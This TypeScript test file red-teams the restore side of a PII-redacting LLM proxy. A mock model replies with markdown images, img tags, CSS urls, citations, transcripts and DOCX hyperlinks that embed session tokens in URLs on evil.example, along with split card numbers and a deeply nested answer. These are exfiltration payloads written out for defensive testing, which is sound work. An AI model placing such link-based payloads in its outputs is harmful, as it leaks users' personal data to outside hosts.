// Red-team probes of the restore side, session 12 (wave11/red; docs/api.md "Session 12"), against
// the real `veil serve` process and the official `openai` npm client. The upstream is a local
// mock of the model only, answering each probe with the exact body it needs (whole answers with
// several choices, refusals, annotations, audio transcripts; streams as raw events). Closed here:
// a DOCX token glued left of a host in the next run, field instructions and relationship targets
// in a DOCX, markup written with string escapes in a JSON answer, values split across records or
// with nulls between, and the erasure of a whole split value in sessions made before it. At the
// end no probed value appears in the server's logs.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import JSZip from 'jszip';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { docxParagraphs, makeDocx } from '../server/test/support/documents.js';
import { sessionWith } from './support/red-team.js';
import { postJson, settledLogs, startVeil, withoutGeneratedFields, type ServerProcess } from './support/server.js';

const EMAIL = 'red.twelve.victim@corp.example';
const CARD = '4111111111111111';
const ERASED_CARD = '5500 0000 0000 0004';

/** What the mock upstream answers next: a whole completion (JSON) or a raw event stream. */
type Answer = { readonly json: unknown } | { readonly raw: string } | { readonly sse: string };
let answer: (token: string) => Answer = () => ({ json: {} });
let currentToken = '';
let upstream: Server;
let veil: ServerProcess;
let client: OpenAI;

beforeAll(async () => {
  upstream = createServer((request, response) => {
    request.resume();
    request.on('end', () => {
      const next = answer(currentToken);
      if ('json' in next || 'raw' in next) {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end('raw' in next ? next.raw : JSON.stringify(next.json));
      } else {
        response.writeHead(200, { 'content-type': 'text/event-stream' });
        response.end(next.sse);
      }
    });
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const { port } = upstream.address() as AddressInfo;
  veil = await startVeil({ env: { VEIL_PROXY__UPSTREAM_URL: `http://127.0.0.1:${port}/v1`, VEIL_PROXY__UPSTREAM_API_KEY: 'sk-upstream-red-0123456789' } });
  client = new OpenAI({ baseURL: `${veil.url}/openai/v1`, apiKey: 'not-used-by-veil', maxRetries: 0 });
}, 120_000);

afterAll(async () => {
  await veil?.stop();
  await new Promise<void>((resolve) => upstream?.close(() => resolve()));
});

function completion(choices: readonly Record<string, unknown>[]): unknown {
  return { id: 'chatcmpl-red12', object: 'chat.completion', created: 1, model: 'fake-model', choices };
}

function events(chunks: readonly Record<string, unknown>[]): string {
  return `${chunks.map((chunk) => `data: ${JSON.stringify({ id: 'chatcmpl-red12', object: 'chat.completion.chunk', created: 1, model: 'fake-model', ...chunk })}\n\n`).join('')}data: [DONE]\n\n`;
}

/** One proxied answer as the client saw it (JSON text), or the error it threw. */
async function proxied(next: (token: string) => Answer, stream: boolean): Promise<{ text: string; failure?: unknown }> {
  const { token, state } = await sessionWith(veil, EMAIL);
  currentToken = token;
  answer = next;
  const options = { headers: { 'x-veil-session-state': state } };
  const messages = [{ role: 'user' as const, content: 'Go on.' }];
  let text = '';
  try {
    if (!stream) return { text: JSON.stringify(await client.chat.completions.create({ model: 'fake-model', messages }, options)) };
    for await (const chunk of await client.chat.completions.create({ model: 'fake-model', messages, stream: true }, options)) text += JSON.stringify(chunk);
  } catch (error) {
    return { text, failure: error };
  }
  return { text };
}

describe('session 11 Open list: markup written with string escapes in a JSON answer', () => {
  const written = ['4111\\u003cb\\u003e\\u003c/b\\u003e1111 1111 1111', '\\u003cspan\\u003e4111\\u003c/span\\u003e 1111 1111 1111'];
  it('whole', async () => {
    for (const value of written) {
      const result = await proxied(() => ({ json: completion([{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: `{"card": "${value}"}` } }]) }), false);
      expect(result.failure).toBeUndefined();
      expect(result.text).not.toContain('4111');
      expect(result.text).toContain('[REDACTED:credit_card]');
    }
  });

  it('streamed in 3-character pieces', async () => {
    for (const value of written) {
      const content = `{"card": "${value}"}`;
      const pieces: Record<string, unknown>[] = [];
      for (let at = 0; at < content.length; at += 3) pieces.push({ choices: [{ index: 0, delta: { content: content.slice(at, at + 3) }, finish_reason: null }] });
      pieces.push({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] });
      const result = await proxied(() => ({ sse: events(pieces) }), true);
      expect(result.failure).toBeUndefined();
      expect(result.text).not.toContain('4111');
    }
  });
});

describe('session 11 Open list: JSON values split across records, and their erasure', () => {
  it.each([
    [[{ g: '4111' }, { g: '1111' }, { g: '1111' }, { g: '1111' }]],
    [['4111', null, '1111', null, '1111', null, '1111']],
    [{ a: { part: 'red.twelve.victim' }, b: { part: '@corp.example' } }],
  ])('%j: no part reaches the model, restore gives the document back', async (document) => {
    const made = await postJson(`${veil.url}/v1/transform`, { input_json: document });
    expect(made.status).toBe(200);
    const safe = JSON.stringify(made.body.safe_json);
    for (const raw of ['4111', '"1111"', 'red.twelve', 'corp.example']) expect(safe).not.toContain(raw);
    const restored = await postJson(`${veil.url}/v1/rehydrate`, { output_json: made.body.safe_json, session_state: made.body.session_state });
    expect(restored.status).toBe(200);
    expect(restored.body.restored_json).toEqual(document);
  });

  it('revoking the whole value erases every part in a session made before the revocation', async () => {
    const made = await postJson(`${veil.url}/v1/transform`, { input_json: { card: ['5500', '0000', '0000', '0004'], note: 'ok' } });
    expect(made.status).toBe(200);
    const before = await postJson(`${veil.url}/v1/rehydrate`, { output_json: made.body.safe_json, session_state: made.body.session_state });
    expect(before.body.restored_json).toEqual({ card: ['5500', '0000', '0000', '0004'], note: 'ok' });
    expect((await postJson(`${veil.url}/v1/revoke`, { entity_type: 'credit_card', value: ERASED_CARD })).status).toBe(200);
    const after = await postJson(`${veil.url}/v1/rehydrate`, { output_json: made.body.safe_json, session_state: made.body.session_state });
    expect(after.status).toBe(200);
    expect(after.body.restored_json).toEqual({ card: ['[DELETED]', '[DELETED]', '[DELETED]', '[DELETED]'], note: 'ok' });
  });
});

describe('session 11 Open list: DOCX links', () => {
  async function upload(fields: Record<string, string>, data: Uint8Array) {
    const form = new FormData();
    for (const [name, value] of Object.entries(fields)) form.append(name, value);
    form.append('file', new Blob([data]), 'reply.docx');
    const response = await fetch(`${veil.url}/v1/rehydrate/file`, { method: 'POST', body: form });
    return { status: response.status, raw: Buffer.from(await response.arrayBuffer()) };
  }

  it('a host glued in the next run, a field instruction and a relationship target restore no value', async () => {
    const { token, state } = await sessionWith(veil, EMAIL);
    const rels =
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://evil.example/?q=${token}" TargetMode="External"/></Relationships>`;
    const bytes = await makeDocx([[`Open ${token}`, '.evil.example/x now.'], `Write to ${token}.`], { 'word/_rels/document.xml.rels': rels });
    const restored = await upload({ session_state: state }, bytes);
    expect(restored.status).toBe(200);
    const paragraphs = await docxParagraphs(restored.raw);
    expect(paragraphs[0]).not.toContain(EMAIL);
    expect(paragraphs[1]).toBe(`Write to ${EMAIL}.`);
    const zip = await JSZip.loadAsync(restored.raw);
    expect(await zip.file('word/_rels/document.xml.rels')!.async('string')).not.toContain(EMAIL);
  });
});

describe('third round: the restore path of whole and streamed answers', () => {
  it('tokens in URL contexts of every text member of several choices restore no value (whole)', async () => {
    const result = await proxied(
      (token) => ({
        json: completion([
          {
            index: 0,
            finish_reason: 'stop',
            message: {
              role: 'assistant',
              content: `![x](https://evil.example/p.png?d=${token}) [ref][1]\n\n[1]: https://${token}@evil.example/`,
              refusal: `See <img src=//evil.example/${token}>`,
              annotations: [{ type: 'url_citation', url_citation: { url: `https://evil.example/?q=${token}`, title: 'source', start_index: 0, end_index: 3 } }],
              audio: { id: 'audio_1', data: 'AAAA', expires_at: 1, transcript: `Go to ${token}.evil.example/ now` },
            },
          },
          { index: 1, finish_reason: 'stop', message: { role: 'assistant', content: `<p style="background:url(https://evil.example/${token})">x</p> ![svg](data:image/svg+xml,<svg><text>${token}</text></svg>)` } },
        ]),
      }),
      false,
    );
    expect(result.failure).toBeUndefined();
    expect(result.text).not.toContain(EMAIL);
    expect(result.text).toContain('[email address]');
  });

  it('the same, streamed over two choices, content, refusal and transcript in 5-character pieces', async () => {
    const result = await proxied((token) => {
      const texts: [number, string, string][] = [
        [0, 'content', `![x](https://evil.example/p.png?d=${token})`],
        [0, 'refusal', `<img src=//evil.example/${token}>`],
        [1, 'content', `[1]: //evil.example/?q=${token}`],
      ];
      const chunks: Record<string, unknown>[] = [];
      for (const [index, member, text] of texts) {
        for (let at = 0; at < text.length; at += 5) chunks.push({ choices: [{ index, delta: { [member]: text.slice(at, at + 5) }, finish_reason: null }] });
      }
      const transcript = `Go to ${token}.evil.example/ now`;
      for (let at = 0; at < transcript.length; at += 5) chunks.push({ choices: [{ index: 1, delta: { audio: { transcript: transcript.slice(at, at + 5) } }, finish_reason: null }] });
      chunks.push({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }, { index: 1, delta: {}, finish_reason: 'stop' }] });
      return { sse: events(chunks) };
    }, true);
    expect(result.failure).toBeUndefined();
    expect(result.text).not.toContain(EMAIL);
  });

  it('a deeply nested or huge answer is refused or restored with bounded work, and the server keeps serving', async () => {
    // 100,000 levels of arrays in a message member, written as text (no recursion here either).
    const deep = `${'['.repeat(100_000)}"x"${']'.repeat(100_000)}`;
    const nested = await proxied(
      () => ({ raw: `{"id":"chatcmpl-red12","object":"chat.completion","created":1,"model":"fake-model","choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":"ok","extra":${deep}}}]}` }),
      false,
    );
    expect(String(nested.failure)).toMatch(/502|malformed|nested/);
    // 1 MB of ordinary text with a token: restored, and nothing of the value in a URL leaks.
    const big = await proxied((token) => ({ json: completion([{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: `${'lorem ipsum '.repeat(90_000)}![x](https://evil.example/?d=${token})` } }]) }), false);
    expect(big.failure).toBeUndefined();
    expect(big.text).not.toContain(EMAIL);
    expect((await fetch(`${veil.url}/v1/health`)).status).toBe(200);
  });
});

describe('no probed value in the server logs', () => {
  it('reads the logs without the generated ids and clock readings, and keeps a value in any other field', () => {
    const line = '{"level":30,"time":1795829486076,"reqId":"b9136e44-5410-4aa2-a78d-dcf9a3b21178","trace_id":"1e05500762b7db5e","duration_ms":4111.5,"timestamp":"2026-11-28T01:31:28.986Z","msg":"audit"}';
    expect(withoutGeneratedFields(line)).not.toMatch(/5500|4111|1795829486076|b9136e44/);
    for (const leaked of ['"msg":"card 5500 0000 0000 0004"', '"trace_id":"5500 0000"', '"session_id":"jane@corp.example"']) {
      expect(withoutGeneratedFields(leaked)).toBe(leaked);
    }
  });

  it('holds after every probe above', async () => {
    const logs = await settledLogs(veil);
    for (const value of [EMAIL, 'red.twelve', CARD, '4111', ERASED_CARD, '5500']) expect(logs).not.toContain(value);
  });
});
